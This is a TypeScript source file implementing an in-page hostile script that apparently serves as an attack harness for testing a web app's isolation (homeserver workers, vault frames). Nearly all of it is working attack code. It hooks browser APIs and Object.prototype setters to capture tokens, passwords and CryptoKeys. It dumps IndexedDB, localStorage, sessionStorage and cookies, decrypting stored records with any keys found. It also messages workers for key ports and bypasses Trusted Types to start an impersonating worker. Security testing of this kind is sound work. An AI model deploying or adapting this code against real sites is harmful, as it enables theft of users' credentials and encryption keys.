/** What a hostile micro-frontend has put its hands on, and what it can do with it. Lives in the attacked page as `window.attack`. */
export interface Attack {
  /** What was overheard so far, by kind. */
  counts(): Readonly<Record<"texts" | "buffers" | "cryptoKeys" | "ports" | "workers", number>>;
  /** Which of `texts` were overheard, as they are or within others. */
  findTexts(texts: readonly string[]): readonly string[];
  /** How many overheard buffers hold `bytes`. */
  countBuffers(bytes: readonly number[]): number;
  /** Speaks to every worker and port that was caught: asks for keys on ports of its own, and listens to all answers. */
  interrogate(): Promise<void>;
  /** Opens every storage of the origin, uses every key that lies there on every record. @returns all text that comes of it */
  raidStorage(): Promise<readonly string[]>;
  /** Starts a homeserver worker of its own at `url` as the shell would. @returns whether it has somebody's account */
  impersonateShell(url: string): Promise<boolean>;
  /** Opens one more frame of `origin`. @returns the directive of the policy that was in the way, or what the frame answered */
  openFrame(origin: string): Promise<string>;
  /** What reading in the frame that is there gives. */
  readFrame(): string;
}

/**
 * The attack: patches what others use to talk, store and encrypt, and keeps everything that passes. Runs in the page, so it
 * names nothing outside of itself.
 */
export function attack(): void {
  const texts = new Set<string>();
  const buffers: Uint8Array[] = [];
  const cryptoKeys: CryptoKey[] = [];
  const ports: MessagePort[] = [];
  const workers: Worker[] = [];
  const seen = new WeakSet();
  const { apply, construct } = Reflect;
  const Channel = MessageChannel;
  const NativeWorker = Worker;
  const nativePost = MessagePort.prototype.postMessage;
  const nativeWorkerPost = Worker.prototype.postMessage;
  const nativeListen = EventTarget.prototype.addEventListener;
  let isTaking = false;

  /** Keeps `value` and everything in it. */
  function take(value: unknown): void {
    if (isTaking) return;
    isTaking = true;
    try {
      const queue: { readonly value: unknown; readonly depth: number }[] = [{ value, depth: 0 }];
      for (let next = queue.pop(); next !== undefined; next = queue.pop()) {
        const { depth } = next;
        const inner = open(next.value);
        if (depth < 8) for (const each of inner) queue.push({ value: each, depth: depth + 1 });
      }
    } finally {
      isTaking = false;
    }
  }

  /** Keeps `value` by itself. @returns what is in it */
  function open(value: unknown): readonly unknown[] {
    if (typeof value === "string") texts.add(value);
    if ((typeof value !== "object" && typeof value !== "function") || value === null || seen.has(value)) return [];
    seen.add(value);
    if (value instanceof CryptoKey) cryptoKeys.push(value);
    else if (value instanceof MessagePort) ports.push(value);
    else if (value instanceof NativeWorker) workers.push(value);
    else if (ArrayBuffer.isView(value))
      buffers.push(new Uint8Array(value.buffer.slice(0), value.byteOffset, value.byteLength));
    else if (value instanceof ArrayBuffer && !value.detached) buffers.push(new Uint8Array(value.slice(0)));
    else if (value instanceof MessageEvent) return [value.data, ...value.ports];
    else if (value instanceof MessageChannel) return [value.port1, value.port2];
    else if (value instanceof Map) return [...value.entries()].flat();
    else if (value instanceof Set) return [...value];
    else if (value instanceof Headers) return [...value.entries()].flat();
    else if (value instanceof Request) return [value.url, value.headers];
    else if (value instanceof Node || value === window) return [];
    else return Object.values(Object.getOwnPropertyDescriptors(value)).map((property): unknown => property.value);
    return [];
  }

  /** Puts itself between whoever calls `owner[name]` and the method. */
  function spyOn(owner: object | undefined, ...names: readonly string[]): void {
    for (const name of names) {
      const property = owner && Object.getOwnPropertyDescriptor(owner, name);
      if (owner === undefined || typeof property?.value !== "function") continue;
      const original = property.value as (...args: unknown[]) => unknown;
      const value = function (this: unknown, ...args: unknown[]): unknown {
        take(this);
        take(args);
        const result = apply(original, this, args);
        if (result instanceof Promise) void result.then(take, take);
        else take(result);
        return result;
      };
      Object.defineProperty(owner, name, { ...property, value });
    }
  }

  /** The same for `new name(…)`. */
  function spyOnClass(...names: readonly string[]): void {
    for (const name of names) {
      const original = Reflect.get(window, name) as (new (...args: unknown[]) => object) | undefined;
      if (original === undefined) continue;
      const spied = new Proxy(original, {
        construct(target, args: unknown[], newTarget) {
          take(args);
          const made = construct(target, args, newTarget) as object;
          take(made);
          return made;
        },
      });
      Reflect.set(window, name, spied);
    }
  }

  function hear(event: Event): void {
    take(event);
  }

  spyOnClass(
    "Worker",
    "SharedWorker",
    "MessageChannel",
    "BroadcastChannel",
    "RTCRtpScriptTransform",
    "RTCPeerConnection",
  );
  spyOnClass("WebSocket", "Request", "Headers", "TransformStream", "ReadableStream", "WritableStream");
  spyOn(window, "postMessage", "fetch", "structuredClone", "atob", "btoa");
  spyOn(Worker.prototype, "postMessage");
  spyOn(MessagePort.prototype, "postMessage", "start");
  spyOn(BroadcastChannel.prototype, "postMessage");
  spyOn(WebSocket.prototype, "send");
  spyOn(XMLHttpRequest.prototype, "open", "send", "setRequestHeader");
  spyOn(Headers.prototype, "set", "append");
  spyOn(Response.prototype, "json", "text", "arrayBuffer");
  spyOn(SubtleCrypto.prototype, "importKey", "exportKey", "deriveKey", "deriveBits", "encrypt", "decrypt", "wrapKey");
  spyOn(Crypto.prototype, "getRandomValues");
  spyOn(TextEncoder.prototype, "encode");
  spyOn(TextDecoder.prototype, "decode");
  spyOn(JSON, "parse", "stringify");
  spyOn(Map.prototype, "set", "get");
  spyOn(WeakMap.prototype, "set");
  spyOn(Set.prototype, "add");
  spyOn(Object, "assign", "entries", "freeze");
  spyOn(IDBObjectStore.prototype, "put", "add", "get");
  spyOn(Storage.prototype, "setItem", "getItem");
  spyOn(RTCRtpSender.prototype as object, "createEncodedStreams", "setParameters");
  spyOn(RTCRtpReceiver.prototype as object, "createEncodedStreams");
  spyOn(ReadableStream.prototype, "pipeTo", "pipeThrough");
  for (const name of ["accessToken", "access_token", "refresh_token", "password", "media_key"])
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      set(value: unknown) {
        take(value);
        Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
    });
  EventTarget.prototype.addEventListener = function (type, listener, options) {
    take(this);
    if (type === "message") apply(nativeListen, this, [type, hear]);
    apply(nativeListen, this, [type, listener, options]);
  };
  apply(nativeListen, window, ["message", hear]);

  /** A call as comlink writes it: on the wire it has no other secret. */
  const callOf = (name: string, ...values: readonly unknown[]) => ({
    id: `attack-${Math.random()}`,
    type: "APPLY",
    path: [name],
    argumentList: values.map((value) => ({ type: "RAW", value })),
  });

  function portOfOurs(): MessagePort {
    const { port1, port2 } = new Channel();
    apply(nativeListen, port1, ["message", hear]);
    port1.start();
    return port2;
  }

  async function raidDatabase(name: string): Promise<readonly string[]> {
    const asked = indexedDB.open(name);
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      asked.addEventListener("success", () => resolve(asked.result));
      asked.addEventListener("error", () => reject(new Error(name)));
    });
    const rows: unknown[] = [];
    for (const store of database.objectStoreNames) {
      const reading = database.transaction(store).objectStore(store).getAll();
      await new Promise((resolve) => reading.addEventListener("success", resolve));
      rows.push(...(reading.result as unknown[]));
    }
    database.close();
    const found: string[] = rows.map((row) => JSON.stringify(row));
    const keys = rows.filter((row) => row instanceof CryptoKey);
    for (const row of rows) {
      if (typeof row !== "object" || row === null || !("iv" in row)) continue;
      const { iv, bytes, payload, callId, firstSeq, lastSeq } = row as Record<string, unknown>;
      const tied = new TextEncoder().encode(JSON.stringify([callId, firstSeq, lastSeq]));
      for (const key of keys) {
        const how = { name: "AES-GCM", iv: iv as BufferSource };
        const opened = await crypto.subtle
          .decrypt(
            bytes === undefined ? { ...how, additionalData: tied } : how,
            key,
            (bytes ?? payload) as BufferSource,
          )
          .catch(() => null);
        if (opened !== null) found.push(new TextDecoder().decode(opened));
      }
    }
    return found;
  }

  const me: Attack = {
    counts: () => ({
      texts: texts.size,
      buffers: buffers.length,
      cryptoKeys: cryptoKeys.length,
      ports: ports.length,
      workers: workers.length,
    }),
    findTexts: (wanted) => wanted.filter((text) => [...texts].some((heard) => heard.includes(text))),
    countBuffers: (bytes) =>
      buffers.filter((held) => {
        for (let at = held.indexOf(bytes[0] ?? 0); at !== -1; at = held.indexOf(bytes[0] ?? 0, at + 1))
          if (bytes.every((byte, offset) => held[at + offset] === byte)) return true;
        return false;
      }).length,
    async interrogate() {
      for (const far of [...workers, ...ports]) {
        apply(nativeListen, far, ["message", hear]);
        const post = far instanceof NativeWorker ? nativeWorkerPost : nativePost;
        for (const type of ["realm.keyPort", "realm.clientPort"]) apply(post, far, [{ type }, [portOfOurs()]]);
        const keyPort = portOfOurs();
        apply(post, far, [callOf("acceptKeyPort", keyPort), [keyPort]]);
        for (const name of ["restore", "session", "readCounters", "vault"]) apply(post, far, [callOf(name)]);
      }
      // An answer takes a moment; what comes later is heard as well.
      await new Promise((resolve) => setTimeout(resolve, 1_000));
    },
    async raidStorage() {
      const databases = await indexedDB.databases();
      const found = await Promise.all(databases.map(({ name }) => raidDatabase(name ?? "").catch(() => [])));
      return [
        ...found.flat(),
        JSON.stringify({ ...localStorage }),
        JSON.stringify({ ...sessionStorage }),
        document.cookie,
      ];
    },
    async impersonateShell(url) {
      const policy = Reflect.get(window, "trustedTypes") as {
        createPolicy(name: string, rules: object): { createScriptURL(url: string): string };
      };
      const any = policy.createPolicy(`any-${Math.random()}`, { createScriptURL: (address: string) => address });
      const worker = new NativeWorker(any.createScriptURL(url), { type: "module" });
      apply(nativeWorkerPost, worker, [{ type: "realm.keyPort" }, [portOfOurs()]]);
      const call = callOf("restore");
      apply(nativeWorkerPost, worker, [call]);
      const answer = await new Promise<unknown>((resolve) =>
        apply(nativeListen, worker, [
          "message",
          ({ data }: MessageEvent<{ readonly id?: string }>) => data.id === call.id && resolve(data),
        ]),
      );
      worker.terminate();
      return JSON.stringify(answer).includes('"userId"');
    },
    openFrame(origin) {
      return new Promise((resolve) => {
        const frame = document.createElement("iframe");
        apply(nativeListen, document, [
          "securitypolicyviolation",
          ({ effectiveDirective }: SecurityPolicyViolationEvent) => resolve(effectiveDirective),
        ]);
        frame.addEventListener("load", () => {
          const channels = [new Channel(), new Channel(), new Channel()];
          const control = channels[2]?.port1;
          if (control) control.onmessage = ({ data }) => resolve(JSON.stringify(data));
          frame.contentWindow?.postMessage(
            { type: "vault.open" },
            origin,
            channels.map(({ port2 }) => port2),
          );
        });
        frame.src = `${origin}/`;
        document.body.append(frame);
      });
    },
    readFrame() {
      const frame = document.querySelector("iframe");
      if (frame === null) return "no frame";
      try {
        return frame.contentDocument?.documentElement.outerHTML ?? String(frame.contentWindow?.location.href);
      } catch (error) {
        return error instanceof Error ? error.name : String(error);
      }
    },
  };
  Reflect.set(window, "attack", me);
}
